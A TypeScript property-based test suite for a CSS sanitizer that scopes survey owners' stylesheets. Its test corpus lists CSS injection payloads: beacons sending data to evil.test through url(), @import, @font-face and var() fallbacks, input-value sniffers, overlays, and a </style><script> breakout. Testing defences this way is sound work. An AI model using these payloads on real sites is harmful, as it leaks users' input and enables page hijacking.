import { type CssNode, generate, parse, walk } from 'css-tree';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { MAX_OWNER_CSS_LENGTH, sanitizeOwnerCss } from './owner-css';

const SCOPE = '.survey-42';

describe('sanitizeOwnerCss', () => {
  it('keeps harmless rules, each selector under the survey scope', () => {
    expect(sanitizeOwnerCss('h1 { color: red; font-weight: 700 } p, li { margin: 0 4px }', SCOPE)).toBe(
      '.survey-42 h1{color:red;font-weight:700}\n.survey-42 p,.survey-42 li{margin:0 4px}',
    );
    expect(sanitizeOwnerCss('@media (max-width: 600px) { h1 { font-size: 20px } }', SCOPE)).toBe(
      '@media (max-width:600px){.survey-42 h1{font-size:20px}}',
    );
  });

  it('neutralises the known attacks', () => {
    const corpus = {
      scopeEscape: '} body { display: none } .x {',
      beacon: '.q:checked { background: url(https://evil.test/log?q=1) }',
      escapedBeacon: '.q { background: u\\72 l(https://evil.test/x) }',
      imageSet: '.q { background-image: image-set("https://evil.test/a.png" 1x) }',
      importRule: '@import url(https://evil.test/x.css); h1 { color: red }',
      fontFace: '@font-face { font-family: x; src: url(https://evil.test/f.woff) }',
      valueSniffer: 'input[value^="a"] { color: red }',
      hasSniffer: 'form:has(input[value^="a"]) { color: red }',
      overlay: 'div { position: fixed; inset: 0; z-index: 99999; background: white }',
      sticky: 'div { position: sticky; top: 0 }',
      transform: 'button { transform: translate(0, -500px) }',
      breakOut: 'p { color: red } </st</styleyle><script>alert(1)</script>',
      customProperty: 'p { --x: url(https://evil.test); background: var(--x) }',
      expression: 'p { width: expression(alert(1)) }',
      sibling: '~ p { display: none } + p { display: none }',
      varFallback: '.q:checked { background: var(--nope, url(https://evil.test/log?q1=a)) }',
      varFallbackUpper: '.q:checked { background: VAR(--nope, URL(https://evil.test/log)) }',
      varInCalc: '.q { width: calc(var(--n, url(https://evil.test/w)) + 1px) }',
      varListStyle: '.q:checked { list-style: var(--n, url(https://evil.test/l)) }',
      varCursor: '.q:hover { cursor: var(--n, url(https://evil.test/c)), auto }',
    };
    const output = Object.values(corpus)
      .map((css) => sanitizeOwnerCss(css, SCOPE))
      .join('\n');
    expect(output).not.toMatch(/url|image-set|@import|@font-face|\[value|fixed|sticky|transform|z-index|<|expression/i);
    expect(output).not.toMatch(/(^|[},])\s*body/);
    expect(sanitizeOwnerCss(corpus.sibling, SCOPE)).toBe('');
    // What is harmless in those sheets survives, scoped.
    expect(sanitizeOwnerCss(corpus.breakOut, SCOPE)).toContain('.survey-42 p{color:red}');
    expect(sanitizeOwnerCss(corpus.importRule, SCOPE)).toBe('.survey-42 h1{color:red}');
  });

  it('keeps a var() of the app’s own properties, fallback and all, when nothing in it loads', () => {
    expect(sanitizeOwnerCss('h1 { color: var(--color-primary, #123456) }', SCOPE)).toBe(
      '.survey-42 h1{color:var(--color-primary, #123456)}',
    );
  });

  it('drops a stylesheet too large to read on every render, and reads each one once', () => {
    const huge = 'h1{color:red}'.repeat(6000);
    expect(huge.length).toBeGreaterThan(MAX_OWNER_CSS_LENGTH);
    expect(sanitizeOwnerCss(huge, SCOPE)).toBe('');
    const sheet = 'h2 { color: blue }';
    expect(sanitizeOwnerCss(sheet, SCOPE)).toBe(sanitizeOwnerCss(sheet, SCOPE));
    expect(sanitizeOwnerCss(sheet, '.survey-7')).toBe('.survey-7 h2{color:blue}');
  });

  it('allows position only within the flow', () => {
    expect(sanitizeOwnerCss('p { position: relative }', SCOPE)).toBe('.survey-42 p{position:relative}');
    expect(sanitizeOwnerCss('p { position: absolute }', SCOPE)).toBe('');
  });

  it('property: whatever goes in, every rule that comes out is scoped and allowed, and nothing closes <style>', () => {
    const pieces = [
      'h1',
      'p',
      '.a',
      '#b',
      '*',
      'body',
      'html',
      ':root',
      'input[value^="a"]',
      ':has(input[value="x"])',
      ',',
      '{',
      '}',
      ';',
      ':',
      'color: red',
      'background: url(https://e.test/x)',
      'background:url(e)',
      'position: fixed',
      'position: relative',
      '@import "x.css";',
      '@media (min-width: 1px)',
      '@font-face',
      '</style>',
      '<script>',
      '"',
      "'",
      '/*',
      '*/',
      '\\',
      'u\\72 l(',
      'z-index: 9',
      'margin: 0',
      'var(--x)',
      '--x: url(a)',
      ' ',
      '\n',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (parts) => {
        // One sheet of fragments; the output is parsed again and checked node by node.
        const output = sanitizeOwnerCss(parts.join(' '), SCOPE);
        expect(output).not.toContain('<');
        const sheet = parse(output);
        walk(sheet, (node: CssNode) => {
          if (node.type === 'Atrule') expect(node.name).toBe('media');
          if (node.type === 'Url' || node.type === 'AttributeSelector') throw new Error(`${node.type} in ${output}`);
          if (node.type === 'Function') expect(node.name.toLowerCase()).not.toMatch(/url|image|expression/);
          if (node.type === 'Rule' && node.prelude.type === 'SelectorList') {
            node.prelude.children.forEach((selector) => {
              if (selector.type !== 'Selector') return;
              const [first, combinator, next] = selector.children.toArray();
              expect(first?.type === 'ClassSelector' && first.name === 'survey-42').toBe(true);
              // The scope, then a descendant: never a sibling of the scope.
              expect(combinator?.type === 'Combinator' && combinator.name === ' ').toBe(true);
              expect(next?.type).not.toBe('Combinator');
            });
          }
          if (node.type === 'Declaration') {
            expect(node.property).not.toMatch(/^--|z-index|transform/);
            if (node.property === 'position') expect(['static', 'relative']).toContain(generate(node.value).trim());
          }
        });
      }),
      { numRuns: 500 },
    );
  });
});
